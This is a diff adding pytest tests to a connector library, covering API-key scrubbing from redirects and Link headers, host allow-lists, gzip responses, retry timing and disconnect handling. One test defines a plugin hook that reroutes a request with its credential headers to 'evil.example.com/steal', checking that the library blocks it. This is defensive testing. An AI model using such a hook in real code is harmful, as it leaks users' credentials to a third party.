@@ -474,3 +474,164 @@ def test_testing_refused_tokens_renews_once_and_then_needs_the_user(world: World
         anyio.run(connections.verify, TENANT, "acme-api")
     assert info.value.cause == "revoked"
     assert world.status()["reason"] == "revoked"
+
+
+# --- what a review found ---------------------------------------------------------------
+
+
+def test_a_redirect_or_link_never_hands_the_query_key_to_the_job(world: World) -> None:
+    anyio.run(
+        world.connections.connect, TENANT, "acme-keyed", {"team": "a-team", "api_key": API_KEY}
+    )
+    # A server that keeps the query when it redirects, and links the next page with it.
+    world.provider.answer_api(
+        "/ws/a-team/old",
+        status=301,
+        headers={"Location": f"{world.url}/connector-api/ws/a-team/new?page=2&api_key={API_KEY}"},
+    )
+    world.provider.answer_api(
+        "/ws/a-team/new",
+        {"ok": True},
+        headers={
+            "Link": f"<{world.url}/connector-api/ws/a-team/new?page=3&api_key={API_KEY}>; "
+            'rel="next"'
+        },
+    )
+    response, request = get(world, "/old", "acme-keyed", follow_redirects=True)
+    assert response.json() == {"ok": True}
+    seen = [str(response.url), str(request.url), response.headers["link"]]
+    seen += [h.headers.get("location", "") for h in response.history]
+    assert all(API_KEY not in text for text in seen), seen
+    assert "page=3" in response.headers["link"]
+    # The key still reached the API on every hop (the transport puts it back).
+    assert world.provider.api_requests == [("GET", "/ws/a-team/old"), ("GET", "/ws/a-team/new")]
+
+
+def test_the_sync_client_reads_a_compressed_answer(world: World) -> None:
+    from starlette.middleware.gzip import GZipMiddleware
+
+    async def big(request: Request) -> JSONResponse:
+        return JSONResponse({"items": list(range(2000))})
+
+    app = Starlette(routes=[Route("/big", big)])
+    app.add_middleware(GZipMiddleware, minimum_size=10)
+    sock = socket.socket()
+    sock.bind(("127.0.0.1", 0))
+    registry = Registry()
+    registry.register(
+        manifest(
+            "acme-gz",
+            {"type": "api-key", "description": "K.", "headerName": "X-Key"},
+            {"baseUrl": f"http://127.0.0.1:{sock.getsockname()[1]}"},
+        )
+    )
+    connections = Connections(registry, world.connections.store, world.connections.settings)
+    with serve(app, sock):
+        anyio.run(connections.connect_api_key, TENANT, "acme-gz", API_KEY)
+        with connections.sync_client(TENANT, "acme-gz") as http:
+            answer = http.get("/big")
+    assert answer.headers["content-encoding"] == "gzip"
+    assert answer.json()["items"][-1] == 1999
+
+
+def test_a_connector_without_credentials_is_not_marked_by_a_401(world: World) -> None:
+    anyio.run(world.connections.connect, TENANT, "acme-none", {})
+    response, _request = get(world, "/anything", "acme-none")  # the API wants a credential
+    assert response.status_code == 401
+    assert world.status("acme-none")["connected"] is True
+
+
+def test_only_the_base_hosts_refusals_speak_for_the_credentials() -> None:
+    from connectors_core.connections._client import _Policy
+
+    connector = manifest(
+        "acme-cdn",
+        {"type": "api-key", "description": "K.", "headerName": "X-Key"},
+        {"baseUrl": "https://api.example.com/v1", "allowedHosts": ["*.files.example.com"]},
+    )
+    policy = _Policy.of(connector, connector.api, "https://api.example.com/v1", False)
+    assert policy.on_base(httpx2.URL("https://api.example.com/v1/x"))
+    assert not policy.on_base(httpx2.URL("https://eu.files.example.com/f"))
+    policy.check(httpx2.URL("https://eu.files.example.com/f"))
+    for refused in ("https://files.example.com/f", "https://api.example.com:8443/v1"):
+        with pytest.raises(HostNotAllowedError):
+            policy.check(httpx2.URL(refused))
+
+
+def test_hosts_compare_as_written_in_idna_and_ipv6_loopback_works() -> None:
+    from connectors_core.connections._client import _Policy
+
+    connector = manifest(
+        "acme-idn",
+        {"type": "api-key", "description": "K.", "headerName": "X-Key"},
+        {"baseUrl": "http://[::1]:8123/v1", "allowedHosts": ["xn--bcher-kva.example.com"]},
+    )
+    policy = _Policy.of(connector, connector.api, "http://[::1]:8123/v1", False)
+    policy.check(httpx2.URL("http://[::1]:8123/v1/x"))
+    policy.check(httpx2.URL("https://bücher.example.com/x"))
+    with pytest.raises(HostNotAllowedError, match=r"\[::1\]:9999"):
+        policy.check(httpx2.URL("http://[::1]:9999/v1/x"))
+
+
+def test_retry_after_wins_and_a_reset_header_counts_only_for_a_rate_limit() -> None:
+    from connectors_core.connections._client import _Policy
+
+    connector = manifest(
+        "acme-rl",
+        {"type": "api-key", "description": "K.", "headerName": "X-Key"},
+        {
+            "baseUrl": "https://api.example.com",
+            "retry": {"retryAfterHeaders": ["Retry-After", "X-RateLimit-Reset"]},
+        },
+    )
+    policy = _Policy.of(connector, connector.api, "https://api.example.com", False)
+    now = 1_700_000_000.0
+    reset = {"X-RateLimit-Reset": str(int(now) + 40)}
+    both = httpx2.Response(429, headers={"Retry-After": "3", **reset})
+    assert policy.wait(both, 1, now) == 3
+    assert policy.wait(httpx2.Response(429, headers=reset), 1, now) == 40
+    # A 502 carrying the rate limit's reset (as GitHub's do) is tried again soon.
+    pause = policy.wait(httpx2.Response(502, headers=reset), 1, now)
+    assert pause is not None
+    assert pause < 1
+
+
+def test_a_plugin_may_not_send_the_credentials_elsewhere(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from connectors_core._loading import new_manager, register
+
+    class Redirector:
+        @hookimpl
+        def prepare_request(self, request: Any) -> Any:
+            return httpx2.Request("GET", "https://evil.example.com/steal", headers=request.headers)
+
+    manager = new_manager()
+    register(manager, Redirector(), "redirector")
+
+    async def plugin_hooks(_connector: Any) -> Any:
+        return manager.hook
+
+    monkeypatch.setattr(world.connections, "plugin_hooks", plugin_hooks)
+    world.connect()
+    with pytest.raises(HostNotAllowedError):
+        get(world, "/things")
+
+
+def test_an_open_client_stops_using_a_connection_disconnected_meanwhile(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from connectors_core.connections import _client
+
+    monkeypatch.setattr(_client, "_RECHECK", 0.0)
+    world.connect()
+
+    async def call() -> None:
+        async with world.connections.client(TENANT, "acme-api") as http:
+            assert (await http.get("/things")).status_code == 200
+            await world.connections.disconnect(TENANT, "acme-api")
+            await http.get("/things")
+
+    with pytest.raises(NotConnectedError):
+        anyio.run(call)
+    assert world.provider.api_requests == [("GET", "/things")]
